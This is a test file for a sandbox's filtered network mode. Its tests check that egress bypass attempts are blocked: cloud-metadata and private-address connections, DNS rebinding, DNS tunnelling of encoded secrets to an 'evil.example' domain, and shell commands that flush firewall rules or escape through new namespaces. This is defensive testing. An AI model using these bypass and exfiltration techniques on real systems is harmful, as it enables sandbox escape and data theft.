/** Network mode filtered: addresses and ways around the gateway, tried. Each attempt is told, and no server of the world sees it. */
import { describe, expect, test } from "bun:test";
import { writeFileSync } from "node:fs";
import { attack, denials, nobodyCame } from "./attacker.ts";
import { worldForTests } from "./world.ts";

const world = await worldForTests();
const good = ["--allow-domain", "*.good.example"];

describe("addresses", () => {
  test("the host's loopback, cloud metadata, private networks", async () => {
    const run = await attack(
      world,
      good,
      `
for host in ("169.254.169.254", "10.0.0.1", "192.168.7.7", "100.64.0.1", "fd12::1", "::ffff:10.0.0.1"):
  print(host, tcp(host, 80, b"GET / HTTP/1.1\\r\\nHost: www.good.example\\r\\n\\r\\n"))
print(tcp("127.0.0.1", 80), tcp("::1", 80), tcp("127.0.0.2", 443))`,
    );
    const lines = run.result.stdout?.trim().split("\n") ?? [];
    expect(lines.slice(0, 6).map((line) => line.split(" ")[1])).toEqual(Array(6).fill("ConnectionResetError"));
    // These are the zone's own, where nobody listens.
    expect(lines[6]).toBe("ConnectionRefusedError ConnectionRefusedError ConnectionRefusedError");
    expect(denials(run).map(({ why }) => why)).toEqual([
      "169.254.169.254 is link-local (cloud metadata), and not listed",
      "10.0.0.1 is private, and not listed",
      "192.168.7.7 is private, and not listed",
      "100.64.0.1 is carrier-grade NAT, and not listed",
      "fd12::1 is unique local, and not listed",
      "10.0.0.1 is private, and not listed",
    ]);
    await nobodyCame(world);
  });

  test("allowed names that lead inside: rebinding", async () => {
    const run = await attack(
      world,
      good,
      `
for name in ("loop", "meta", "private", "mapped"):
  try: print(name, socket.getaddrinfo(name + ".good.example", 80))
  except OSError as e: print(name, e.args[1])
print(tcp("203.0.113.66", 80, b"GET / HTTP/1.1\\r\\nHost: meta.good.example\\r\\n\\r\\n"))`,
    );
    const lines = run.result.stdout?.trim().split("\n") ?? [];
    expect(lines.slice(0, 4)).toEqual(
      ["loop", "meta", "private", "mapped"].map((name) => `${name} Name or service not known`),
    );
    expect(lines[4]).toBe("ConnectionResetError");
    expect(denials(run).map(({ why }) => why)).toContain(
      "the name resolves to 169.254.169.254, which is link-local (cloud metadata) and not listed",
    );
    for (const event of denials(run)) expect(event.policy_key).toBe("network.allowed_egress");
    await nobodyCame(world);
  });
});

describe("other ways", () => {
  test("UDP but DNS, by IPv4 and IPv6", async () => {
    const run = await attack(
      world,
      [...good, "--allow-egress", "203.0.113.10:9999"],
      `
print(udp("203.0.113.10", 9999), udp("2001:db8::10", 9999), udp("203.0.113.10", 443))
time.sleep(0.2)`,
    );
    const told = denials(run).map(({ object, action }) => `${action} ${object}`);
    expect({ stdout: run.result.stdout, told, trust: run.result.enforcement.trust_level }).toEqual({
      stdout: "PermissionError PermissionError PermissionError\n",
      told: ["send 203.0.113.10:9999", "send [2001:db8::10]:9999", "send 203.0.113.10:443"],
      trust: "complete",
    });
    await nobodyCame(world);
  });

  test("tunnelling by DNS: names, types, and servers of the attacker's", async () => {
    const run = await attack(
      world,
      good,
      `
def query(name, kind, server="127.0.0.1", tail=b""):
  q = b"\\x12\\x34\\x01\\x00" + struct.pack("!HHHH", 1, 0, 0, 0) + b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\\0" + struct.pack("!HH", kind, 1)
  s = socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5); s.sendto(q + tail, (server, 53))
  r = s.recv(2000); return (r[3] & 15, struct.unpack("!H", r[6:8])[0])
print(query("c2VjcmV0.evil.example", 16), query("www.good.example", 16), query("www.good.example", 255), query("www.good.example", 1, tail=b"secret" * 20))
print(query("c2VjcmV0.evil.example", 1, "203.0.113.66"), query("www.good.example", 1, "203.0.113.66"), query("www.good.example", 28, "2001:db8::66"))
s = socket.create_connection(("203.0.113.66", 53)); s.sendall(struct.pack("!H", 400) + b"x" * 400); print(s.recv(100)[5] & 15)`,
    );
    expect(run.result.stdout).toBe("(3, 0) (0, 0) (4, 0) (0, 1)\n(3, 0) (0, 1) (0, 1)\n4\n");
    const { asked } = await world.seen();
    expect(asked.filter((line) => !/^www\.good\.example (1|28)$/.test(line))).toEqual([]);
    await nobodyCame(world);
  });

  test("the gateway's own port, and the zone's own address", async () => {
    const run = await attack(
      world,
      good,
      `
print(tcp("127.0.0.1", 53, b"GET / HTTP/1.1\\r\\nHost: www.good.example\\r\\n\\r\\n"))
print(tcp("192.0.0.8", 80), tcp("192.0.0.8", 53))`,
    );
    expect(run.result.stdout).toBe("closed\nConnectionRefusedError ConnectionRefusedError\n");
    await nobodyCame(world);
  });
});

describe("the rules of the zone's network", () => {
  test("a policy with CAP_NET_ADMIN is refused", async () => {
    writeFileSync(
      `${world.folder}/admin.toml`,
      'extends = "task"\n[capabilities]\nallowed = ["CAP_NET_ADMIN", "CAP_CHOWN"]\n[network]\nmode = "filtered"\n',
    );
    const run = await world.sandbox(["--policy", `${world.folder}/admin.toml`], ["true"]);
    expect(run.exitCode).toBe(125);
    expect(run.result.error).toMatchObject({ code: "unenforceable" });
    expect(run.result.error?.message).toContain("CAP_NET_ADMIN would let the task change the rules");
  });

  test("every other capability that a policy may grant, and new namespaces besides, changes none of them", async () => {
    const all = [
      "CHOWN",
      "DAC_OVERRIDE",
      "FOWNER",
      "SETUID",
      "SETGID",
      "SETPCAP",
      "NET_BIND_SERVICE",
      "NET_RAW",
      "SYS_ADMIN",
      "SYS_PTRACE",
      "SYS_CHROOT",
      "SETFCAP",
      "MKNOD",
      "NET_BROADCAST",
      "IPC_LOCK",
    ];
    const allowed = all.map((name) => `"CAP_${name}"`).join(", ");
    const calls = ["unshare", "setns", "clone", "clone3", "mount", "bpf", "ptrace", "socket"]
      .map((name) => `"${name}"`)
      .join(", ");
    writeFileSync(
      `${world.folder}/all.toml`,
      `extends = "task"\n[capabilities]\nallowed = [${allowed}]\n[syscalls]\nallow = [${calls}]\n[network]\nmode = "filtered"\nallowed_domains = ["*.good.example"]\n`,
    );
    await world.forget();
    const script = `
nft flush ruleset 2>&1 | head -1
ip route add 10.0.0.0/8 dev lo 2>&1 | head -1
unshare -U nft flush ruleset 2>&1 | head -1
unshare -Ur nft list ruleset 2>&1 | head -1
nsenter --net=/proc/1/ns/net nft flush ruleset 2>&1 | head -1
unshare -Urn curl -sS --max-time 3 http://203.0.113.66/ 2>&1 | head -1
curl -sS --max-time 3 http://203.0.113.66/ 2>&1 | head -1
curl -sS http://www.good.example/`;
    const run = await world.sandbox(["--policy", `${world.folder}/all.toml`, "--user", "0"], ["bash", "-c", script], {
      env: { PATH: "/usr/sbin:/usr/bin:/sbin:/bin" },
    });
    const lines = run.result.stdout?.trim().split("\n") ?? [];
    expect(lines.at(-1)).toBe("hello from www.good.example");
    expect(run.result.stdout).not.toContain("table");
    expect(
      lines.filter((line) => /Operation not permitted|Permission denied|unable|cannot open/i.test(line)).length,
    ).toBeGreaterThan(2);
    await nobodyCame(world, /www\.good\.example$/);
  });
});
